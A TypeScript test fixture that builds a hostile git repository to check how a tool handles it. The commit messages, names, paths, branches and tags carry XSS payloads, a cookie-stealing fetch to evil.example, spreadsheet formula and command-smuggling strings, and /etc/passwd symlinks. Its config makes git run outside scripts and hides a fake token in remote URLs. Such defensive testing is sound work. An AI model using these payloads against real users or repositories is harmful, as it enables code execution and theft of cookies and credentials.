import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What no answer, page, log or file may hold: it stands in the address of the remote. */
export const REMOTE_TOKEN = 'ghp_0123456789abcdefHOSTILE';
/** A name that only a mailmap outside of the repository gives; its configuration points there. */
export const NAME_FROM_OUTSIDE = 'Read From Outside';
/** Where markup that works would ask. */
export const EVIL = 'https://evil.example';

const [ANYTHING, LEFT, ZERO_WIDTH] = ['\u202e', '\u2066', '\u200b'];

/** Names of people; the mail addresses are numbered. */
export const NAMES = {
  plain: 'Ann',
  long: 'W'.repeat(5_000),
  markup: '"onmouseover="alert(1)"x="',
  turned: `${ANYTHING}gnitirw`,
  rightToLeft: 'مطوّر البرمجيات',
  unseen: ZERO_WIDTH.repeat(3),
  reserved: 'constructor',
  proto: '__proto__',
  option: '--output=pwned',
  formula: "=cmd|' /C calc'!A0",
  marks: `Z${'\u0300\u0316'.repeat(60)}algo`,
} as const;
type Who = keyof typeof NAMES;

const LONG_SUBJECT = 'a'.repeat(200_000);

/** Messages of commits, by what is hostile about them; the unseen and the empty one have a text of their own. */
export const MESSAGES: Readonly<Record<string, string | Buffer>> = {
  script: '<script>alert(1)</script>',
  image: `<img src=x onerror="fetch('${EVIL}/'+document.cookie)">`,
  svg: '"><svg/onload=alert(1)>',
  markdown: `[click](javascript:alert(1)) ![seen](${EVIL}/pixel.png) <${EVIL}>`,
  formula: "=cmd|' /C calc'!A0",
  plus: '+1+cmd',
  minus: '-2+3+cmd',
  at: '@SUM(1+1)*cmd',
  turned: `Fix ${ANYTHING}gnp.exe and ${LEFT}more`,
  rightToLeft: 'إصلاح (الخلل) في <b>النص</b> 123',
  unseen: ZERO_WIDTH.repeat(4),
  long: LONG_SUBJECT,
  longWords: `${'word '.repeat(40_000)}\n\n${'b'.repeat(50_000)}`,
  empty: '',
  blankFirst: '\n\n \nBehind blank lines',
  marks: `Z${'\u0300\u0316'.repeat(200)}algo`,
  option: '--output=/tmp/pwned',
  removal: '-rf /',
  proto: '__proto__',
  reserved: 'constructor',
  control: 'Bell\u0007 and \u001b[31mred\u001b[0m and \u0000'.replace('\u0000', '\u2028'),
  template: '{{constructor.constructor("alert(1)")()}} ${7*7} %s%n',
  notText: Buffer.from([0xff, 0xfe, 0x3c, 0x62, 0x3e, 0xed, 0xa0, 0x80, 0xc0, 0xaf]),
  body: `Subject\n\n<iframe src="javascript:alert(1)"></iframe>\n\n    <style>*{display:none}</style>\n\n${EVIL}/in-the-text\n\nSigned-off-by: <a href="javascript:alert(1)">x</a>`,
};

const DEEP = Array.from({ length: 25 }, (_, depth) => `${'d'.repeat(60)}${depth}`).join('/');

/** Paths that one commit adds. */
export const PATHS: readonly (string | Buffer)[] = [
  'new\nline.txt',
  '"quoted" and \'so\'.txt',
  '-rf',
  '--help.txt',
  '=cmd.csv',
  '<img src=x onerror=alert(1)>.html',
  'javascript:alert(1).txt',
  '日本語/ファイル.txt',
  `${ANYTHING}txt.exe`,
  `${ZERO_WIDTH}${ZERO_WIDTH}`,
  'مجلد/ملف.txt',
  'constructor/__proto__.ts',
  'C:\\windows\\..\\x.txt',
  ' leading and trailing ',
  'tab\there.txt',
  `${DEEP}/file.txt`,
  'n'.repeat(250),
  Buffer.from('caf\u00e9.txt', 'latin1'),
];

const BRANCHES = [
  '<img/src=x/onerror=alert(1)>',
  '--all',
  'constructor',
  `${ANYTHING}hcnarb`,
  `${ZERO_WIDTH}`,
  'a&b;c|d$(touch${IFS}x)',
  'b'.repeat(200),
  '=cmd',
];
const TAGS = ['<svg/onload=alert(1)>', '--upload-pack=touch', '__proto__', 't'.repeat(200)];

const CONTENT = `<script>alert(1)</script>\n=cmd\n${ANYTHING}turned${LEFT}\n${'x'.repeat(20_000)}\n`;
const ATTRIBUTES = '* diff=evil filter=evil merge=evil\n';

/** Bytes as `git fast-import` reads a path: every one of them escaped. */
function quoted(path: string | Buffer): string {
  const bytes = [...Buffer.from(path)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`);
  return `"${bytes.join('')}"`;
}

/** Writes a stream for `git fast-import` in which texts need not be text. */
class ByteStream {
  readonly parts: Buffer[] = [];
  private marks = 0;

  line(text: string): void {
    this.parts.push(Buffer.from(`${text}\n`));
  }

  data(bytes: string | Buffer): void {
    const own = Buffer.from(bytes);
    this.line(`data ${own.length}`);
    this.parts.push(own);
    this.line('');
  }

  blob(text: string): number {
    this.marks += 1;
    this.line('blob');
    this.line(`mark :${this.marks}`);
    this.data(text);
    return this.marks;
  }

  commit(ref: string, who: string, seconds: number, message: string | Buffer): void {
    this.line(`commit ${ref}`);
    this.line(`author ${who} ${seconds} +0000`);
    this.line(`committer ${who} ${seconds} +0000`);
    this.data(message);
  }
}

const MAIN = 'refs/heads/main';

/** Main: every name with a message of its own, in turns, and one commit that adds every path. */
function history(until: Date): Buffer {
  const out = new ByteStream();
  const whos = Object.keys(NAMES) as Who[];
  const signature = (who: Who) => `${NAMES[who]} <${whos.indexOf(who)}@example.com>`;
  let seconds = Math.floor(until.getTime() / 1_000) - 60 * 3_600;
  const next = () => (seconds += 3_600);
  const [text, link, attributes] = [CONTENT, '/etc/passwd', ATTRIBUTES].map((each) => out.blob(each));
  out.commit(MAIN, signature('plain'), next(), 'Add every path\n');
  for (const path of PATHS) out.line(`M 100644 :${text} ${quoted(path)}`);
  out.line(`M 120000 :${link} .mailmap`);
  out.line(`M 120000 :${link} passwd`);
  out.line(`M 160000 ${'1'.repeat(40)} vendored`);
  out.line(`M 100644 :${attributes} .gitattributes`);
  for (const [index, message] of Object.values(MESSAGES).entries()) {
    const changed = out.blob(`${index}\n`);
    out.commit(MAIN, signature(whos[index % whos.length] ?? 'plain'), next(), message);
    out.line(`M 100644 :${changed} ${quoted('changed.txt')}`);
  }
  for (const name of BRANCHES) out.line(`reset refs/heads/${name}\nfrom ${MAIN}\n`);
  for (const name of TAGS) {
    out.line(`tag ${name}\nfrom ${MAIN}`);
    out.line(`tagger ${signature('markup')} ${seconds} +0000`);
    out.data(`<script>alert(1)</script>\n\n[x](javascript:alert(1)) ${NAMES.turned}`);
  }
  return Buffer.concat(out.parts);
}

/** Keys of a configuration whose values git runs as programs. */
const PROGRAMS = [
  'core.fsmonitor',
  'core.pager',
  'core.editor',
  'core.askPass',
  'core.sshCommand',
  'core.gitProxy',
  'core.alternateRefsCommand',
  'credential.helper',
  'diff.external',
  'diff.evil.command',
  'diff.evil.textconv',
  'filter.evil.clean',
  'filter.evil.smudge',
  'filter.evil.process',
  'merge.evil.driver',
  'gpg.program',
  'gpg.ssh.program',
  'gpg.x509.program',
  'interactive.diffFilter',
  'pager.log',
  'pager.diff',
  'sequence.editor',
  'uploadpack.packObjectsHook',
];
const HOOKS = ['post-checkout', 'post-index-change', 'pre-auto-gc', 'reference-transaction', 'update'];

const git = (dir: string, args: readonly string[], input?: Buffer | string) =>
  execFileSync('git', ['-C', dir, ...args], {
    input,
    encoding: 'utf8',
    stdio: ['pipe', 'pipe', 'pipe'],
  }).trim();

/** A commit that claims to be signed, so that whoever checks signatures runs `gpg.program`. */
function addSigned(dir: string, until: Date): void {
  const [tree, parent] = [git(dir, ['rev-parse', 'main^{tree}']), git(dir, ['rev-parse', 'main'])];
  const who = `Ann <0@example.com> ${Math.floor(until.getTime() / 1_000) - 3_600} +0000`;
  const signed = `tree ${tree}\nparent ${parent}\nauthor ${who}\ncommitter ${who}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n aGk=\n -----END PGP SIGNATURE-----\n\nSigned by nobody\n`;
  const sha = git(dir, ['hash-object', '-t', 'commit', '-w', '--stdin'], signed);
  git(dir, ['update-ref', 'refs/heads/signed', sha]);
}

/** A configuration that leaves a file in `markers` for each program that git runs, and leads out of the repository. */
function configure(dir: string, markers: string): void {
  const outside = `${dir}.outside`;
  mkdirSync(outside);
  const program = (name: string) => {
    const path = join(outside, name);
    writeFileSync(path, `#!/bin/sh\ntouch "${join(markers, name)}"\ncat 2>/dev/null </dev/null\n`);
    chmodSync(path, 0o755);
    return path;
  };
  for (const key of PROGRAMS) git(dir, ['config', key, program(key)]);
  for (const hook of HOOKS) program(hook);
  writeFileSync(join(outside, 'mailmap'), `${NAME_FROM_OUTSIDE} <outside@example.com> <0@example.com>\n`);
  writeFileSync(join(outside, 'attributes'), ATTRIBUTES);
  writeFileSync(join(outside, 'more'), `[alias]\n\tlog = "!${program('alias.log')}"\n`);
  const others = {
    'core.hooksPath': outside,
    'core.attributesFile': join(outside, 'attributes'),
    'mailmap.file': join(outside, 'mailmap'),
    'include.path': join(outside, 'more'),
    'log.showSignature': 'true',
    'diff.orderFile': '/etc/passwd',
    'protocol.allow': 'always',
    'remote.origin.url': `https://attacker:${REMOTE_TOKEN}@github.com/acme/hostile.git`,
    'remote.origin.uploadpack': program('uploadpack'),
    'remote.evil.url': `ext::sh -c ${program('ext')}`,
    'remote.pushed.url': `https://${REMOTE_TOKEN}@evil.example/x.git`,
    'branch.main.remote': 'evil',
  };
  for (const [key, value] of Object.entries(others)) git(dir, ['config', key, value]);
}

/**
 * Makes a repository by which an attacker tries everything: names, messages and paths in `dir`, and a configuration
 * whose programs leave files in the folder `markers`.
 */
export function makeHostileRepository(dir: string, markers: string, until = new Date()): void {
  mkdirSync(dir, { recursive: true });
  mkdirSync(markers, { recursive: true });
  git(dir, ['init', '--quiet', '--initial-branch=main']);
  git(dir, ['config', 'core.protectNTFS', 'false']);
  git(dir, ['fast-import', '--quiet'], history(until));
  addSigned(dir, until);
  configure(dir, markers);
}
